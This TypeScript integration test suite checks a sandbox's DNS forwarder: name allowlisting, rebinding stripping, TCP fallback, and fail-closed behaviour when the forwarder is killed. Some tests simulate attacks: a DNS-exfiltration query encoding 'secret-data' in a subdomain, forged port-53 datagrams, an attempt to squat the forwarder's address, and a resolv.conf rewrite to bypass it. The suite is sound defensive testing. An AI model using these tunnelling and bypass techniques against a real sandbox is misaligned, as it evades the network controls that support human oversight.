// The DNS forwarder in the secure image on the test network: real nftables,
// Docker's embedded DNS in front of the test bind9, records changed with
// nsupdate, bind's query log read back. What must work (a changed record
// reachable on the very next request, wildcards, AAAA-only names, truncated
// answers over TCP) beside what must not (an unlisted name reaching bind, DNS
// to anything but the forwarder, a rebinding answer, an answer the firewall
// did not admit, the agent user stopping or impersonating the forwarder).
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sleep } from "../../common/sleep.js";
import { dockerAvailable, offlineImages } from "./support/docker.js";
import { buildSecureImage, runSecure, type Running } from "./support/secure-image.js";
import { HOSTS, startTestNet, type TestNet } from "./support/testnet.js";

const hasDocker = await dockerAvailable();
const START = "sudo -n /usr/local/bin/init-firewall.sh";
const GRACE = 2;

/** Polls `check` every 200 ms for at most `ms`; true as soon as it holds. */
async function within(ms: number, check: () => Promise<boolean>): Promise<boolean> {
  for (const t0 = Date.now(); Date.now() - t0 < ms; await sleep(200)) if (await check()) return true;
  return false;
}

describe.skipIf(!hasDocker)("DNS forwarder on the test network", () => {
  let net: TestNet;
  let c: Running;
  let startLog = "";
  let dir = "";
  const sh = (script: string, user = "cordon") => c.sh(script, user);
  const curl = (url: string, extra = "") => sh(`curl -sS -m 3 ${extra} ${url}`);
  const digStatus = async (args: string) =>
    /status: (\w+)/.exec((await sh(`dig +time=2 +tries=1 ${args}`)).stdout)?.[1] ?? "no answer";

  beforeAll(async () => {
    const images = await offlineImages();
    await buildSecureImage(images);
    net = await startTestNet(images);
    await net.nsupdate([
      `update add rot.test 1 A ${HOSTS.neighbor.v4}`,
      `update add *.wild.test 30 A ${HOSTS.cdn.v4}`,
      `update add rebind.test 30 A 10.1.2.3`,
      `update add rebind.test 30 A ${HOSTS.allowed.v4}`,
      `update add v6only.test 30 AAAA ${HOSTS.allowed.v6}`,
      ...Array.from({ length: 40 }, (_, i) => `update add big.test 30 A 198.51.100.${160 + i}`),
    ]);
    dir = mkdtempSync(join(tmpdir(), "cordon-forwarder-"));
    writeFileSync(
      join(dir, "allowlist.toml"),
      [
        "version = 1",
        "[dns]",
        // Docker's embedded DNS (127.0.0.11), which forwards to the test DNS server.
        `resolvers = ["system", "${HOSTS.dns.v4}"]`,
        'mode = "forwarder"',
        "[allow]",
        'names = ["allowed.test", "alias.test", "rot.test", "*.wild.test", "rebind.test", "v6only.test", "big.test", "collector.test"]',
        'required = ["allowed.test"]',
        "[refresher]",
        "min_ttl = 1",
        `grace = ${GRACE}`,
        "[rebind]",
        'exempt_cidrs = ["198.51.100.0/24", "2001:db8:cd::/64"]',
        "[telemetry]",
        'exporter = { otlp-http = { endpoint = "http://collector.test:4318/v1/logs", protocol = "json" } }',
      ].join("\n"),
    );
    c = await runSecure({
      network: net.network,
      dns: HOSTS.dns.v4,
      env: { CORDON_ALLOWLIST: "/etc/cordon-test/allowlist.toml" },
      volumes: [`${dir}:/etc/cordon-test:ro`],
    });
    const r = await c.sh(START);
    startLog = r.stderr;
    if (r.exitCode !== 0) throw new Error(`firewall bring-up failed:\n${r.stderr}`);
  });
  afterAll(async () => {
    await c?.remove();
    await net?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it("starts the forwarder and points resolv.conf at it; status and doctor say so", async () => {
    expect(startLog).toMatch(/\*\.wild\.test: answered by the DNS forwarder/);
    expect(startLog).toMatch(/DNS forwarder answering on 127\.0\.0\.53:53; \/etc\/resolv\.conf points at it/);
    expect((await sh("grep ^nameserver /etc/resolv.conf")).stdout).toBe("nameserver 127.0.0.53");
    const doc = JSON.parse((await sh("cordon doctor --json")).stdout) as { dnsForwarder: unknown };
    expect(doc.dnsForwarder).toEqual({ listen: "127.0.0.53", resolvConf: "points at the forwarder" });
    const st = await sh("cordon firewall status");
    expect(st.stdout).toMatch(/DNS: forwarder mode: every process resolves through 127\.0\.0\.53/);
    expect(st.stdout).toMatch(/DNS forwarder: answering on 127\.0\.0\.53:53; \d+ queries/);
  });

  it("reaches a changed record on the very next request, and lets the old address expire on schedule", async () => {
    expect((await curl("http://rot.test/")).stdout).toBe("hello from neighbor");
    await net.nsupdate(["update delete rot.test A", `update add rot.test 1 A ${HOSTS.cdn2.v4}`]);
    await sleep(1100); // the answer's TTL: the forwarder's cache may hold the old one until then
    const next = await curl("http://rot.test/");
    expect(next.stdout, next.stderr).toBe("hello from cdn2");
    // The old address goes at TTL + grace (the refresher may hold it a refresh longer), not at once.
    expect(
      await within((1 + GRACE) * 1000 + 8000, async () => (await curl(`http://${HOSTS.neighbor.v4}/`)).exitCode !== 0),
    ).toBe(true);
  });

  it("refuses an unlisted name without it ever reaching bind, through resolv.conf or straight to any resolver", async () => {
    const secret = "c2VjcmV0LWRhdGE.exfil.test";
    expect(await digStatus(secret)).toBe("REFUSED");
    expect((await sh(`getent hosts blocked.test`)).exitCode).not.toBe(0);
    for (const server of [HOSTS.dns.v4, "127.0.0.11"]) {
      for (const tcp of ["", "+tcp"]) {
        const r = await sh(`dig +time=2 +tries=1 ${tcp} @${server} ${secret}`);
        expect(r.stdout, `${server} ${tcp}`).not.toMatch(/status: NOERROR|status: NXDOMAIN/);
      }
    }
    expect(await digStatus("allowed.test")).toBe("NOERROR");
    const log = await net.dnsQueryLog();
    expect(log).toMatch(/allowed\.test IN A/); // the twin: what is allowed does reach bind
    expect(log).not.toMatch(/exfil\.test/);
    type Status = { refresher: { status: { forwarder: { refused: number; refusedSample: string[] } } } };
    let st: Status | null = null;
    // The daemon writes its counters to the status file at most once a second: bounded wait for them.
    await within(5000, async () => {
      st = JSON.parse((await sh("cordon firewall status --json")).stdout) as Status;
      return st.refresher.status.forwarder.refused >= 2;
    });
    expect(st!.refresher.status.forwarder.refused).toBeGreaterThanOrEqual(2);
    expect(st!.refresher.status.forwarder.refusedSample).toEqual(
      expect.arrayContaining([secret.toLowerCase(), "blocked.test"]),
    );
  });

  it("admits a fresh name below a wildcard at once, and refuses a name beside it", async () => {
    expect((await curl("http://fresh-7f3a.wild.test/")).stdout).toBe("hello from cdn");
    expect(await digStatus("wild.test")).toBe("REFUSED");
    expect(await digStatus("x.wild.test.blocked.test")).toBe("REFUSED");
  });

  it("strips rebinding answers, answers AAAA-only names, and goes to TCP for big answers", async () => {
    expect((await sh("dig +short rebind.test")).stdout).toBe(HOSTS.allowed.v4);
    expect((await sh("dig +short v6only.test AAAA")).stdout).toBe(HOSTS.allowed.v6);
    expect((await sh("dig +short v6only.test A")).stdout).toBe("");
    expect((await curl("http://v6only.test/", "-6")).stdout).toBe("hello from allowed");
    const big = await sh("dig +noedns big.test");
    expect(big.stdout).toMatch(/Truncated, retrying in TCP mode/);
    expect(big.stdout.match(/\sIN\s+A\s+198\.51\.100\.1[6-9]\d/g)).toHaveLength(40);
  });

  it("answers SERVFAIL when it cannot admit the addresses, and works again once it can", async () => {
    // No nft at all: the forwarder's nft session ended and no new one (or one-off nft) can start.
    expect((await sh("pkill -f '^nft -i$'; mv /usr/sbin/nft /usr/sbin/nft.off", "root")).exitCode).toBe(0);
    try {
      expect(await digStatus("fail-1.wild.test")).toBe("SERVFAIL");
    } finally {
      await sh("mv /usr/sbin/nft.off /usr/sbin/nft", "root");
    }
    expect(await digStatus("fail-1.wild.test")).toBe("NOERROR");
  });

  it("cannot be stopped or impersonated by the agent user; killed, DNS fails closed until it is back", async () => {
    const caps = await sh(
      "grep -E '^(CapEff|CapBnd)' /proc/$(cat /run/cordon/refresher/status.json | jq .pid)/status",
      "root",
    );
    expect(caps.stdout).toBe("CapEff:\t0000000000001400\nCapBnd:\t0000000000001400"); // NET_ADMIN and NET_BIND_SERVICE
    const pid = JSON.parse((await sh("cat /run/cordon/refresher/status.json")).stdout).pid as number;
    const kill = await sh(`kill ${pid}`);
    expect(kill.stderr).toMatch(/Operation not permitted/);
    const squat = await sh(
      `python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.53", 53))' 2>&1`,
    );
    expect(squat.stdout).toMatch(/Address already in use|Permission denied/);
    // Forged answers: a port-53 socket of the agent's (Docker lets any user bind low ports, and
    // 127.0.0.11:53 itself is free: Docker's DNS listens elsewhere) sends nothing anywhere; the same
    // datagram from an ordinary port arrives.
    const listener = await sh(
      'rm -f /tmp/got; (timeout 5 python3 -c \'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 5399)); s.settimeout(4)\nwhile True: open("/tmp/got", "a").write(s.recvfrom(100)[0].decode() + "\\n")\' >/dev/null 2>&1 &) ; sleep 0.3',
      "root",
    );
    expect(listener.exitCode).toBe(0);
    const send = (src: string, text: string) =>
      sh(
        `python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(${src}); s.sendto(b"${text}", ("127.0.0.1", 5399))' 2>&1`,
      );
    const forged = await send('("127.0.0.11", 53)', "forged");
    await send('("127.0.0.1", 0)', "ordinary");
    await sleep(300);
    expect(forged.stdout).not.toMatch(/Permission denied|Address already in use/); // the bind itself works
    expect((await sh("cat /tmp/got", "root")).stdout).toBe("ordinary");
    await sh(`kill -9 ${pid}`, "root");
    expect(await digStatus("allowed.test")).not.toBe("NOERROR"); // no forwarder: no DNS at all
    expect((await sh(`dig +time=1 +tries=1 @${HOSTS.dns.v4} allowed.test`)).stdout).not.toMatch(/status: NOERROR/);
    expect(await within(10_000, async () => (await digStatus("allowed.test")) === "NOERROR")).toBe(true);
    // A name only the killed daemon admitted (the wildcard test's): the kernel still holds its
    // address and the new daemon does not know it, so its `create` fails; the answer is then written
    // as an update, and the name works as before.
    expect(await digStatus("fresh-7f3a.wild.test")).toBe("NOERROR");
    expect((await curl("http://fresh-7f3a.wild.test/")).stdout).toBe("hello from cdn");
  });

  it("tells doctor when resolv.conf bypasses the forwarder, and a re-run points it back", async () => {
    // In place: Docker bind-mounts the file, so it cannot be replaced by a rename (sed -i).
    const w = await sh(`printf 'nameserver ${HOSTS.dns.v4}\\n' > /etc/resolv.conf`, "root");
    expect(w.exitCode, w.stderr).toBe(0);
    const doc = JSON.parse((await sh("cordon doctor --json")).stdout) as { dnsForwarder: { resolvConf: string } };
    expect(doc.dnsForwarder.resolvConf).toMatch(/^BYPASSES the forwarder \(nameserver 198\.51\.100\.53\)/);
    expect(await digStatus("allowed.test")).not.toBe("NOERROR"); // and the bypass gets nowhere
    const again = await c.sh(START);
    expect(again.exitCode, again.stderr).toBe(0);
    expect((await sh("grep ^nameserver /etc/resolv.conf")).stdout).toBe("nameserver 127.0.0.53");
    // The re-run returns only once the new forwarder answers: the very next query works.
    expect(await digStatus("allowed.test")).toBe("NOERROR");
  });
});
